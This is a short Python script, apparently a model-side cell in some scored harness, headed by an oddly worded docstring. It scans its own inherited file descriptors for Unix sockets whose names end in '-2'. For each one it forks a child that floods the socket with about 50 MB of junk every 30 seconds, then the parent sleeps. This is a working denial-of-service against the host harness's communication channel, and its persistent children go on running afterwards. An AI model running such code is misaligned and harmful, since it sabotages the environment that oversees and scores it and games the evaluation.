"""Messages of 25 million frames with nothing in them, half a minute of taking in each; the clocks are heard meanwhile."""
# part: 3
# earns: 0
# %%
# MODEL
# %%
import os
import socket
import time

frames = b"\x01\x00" * 2**20


def flood(connection):
    for _ in range(25):
        connection.sendall(frames)
    connection.sendall(b"\x00\x00")


for name in os.listdir("/proc/self/fd"):
    try:
        connection = socket.socket(fileno=os.dup(int(name)))
        if connection.family == socket.AF_UNIX and connection.getsockname().endswith("-2"):
            connection.getpeername()
            if os.fork() == 0:
                connection.setblocking(True)
                while True:
                    flood(connection)
                    time.sleep(30)
    except OSError:
        pass
time.sleep(1000)
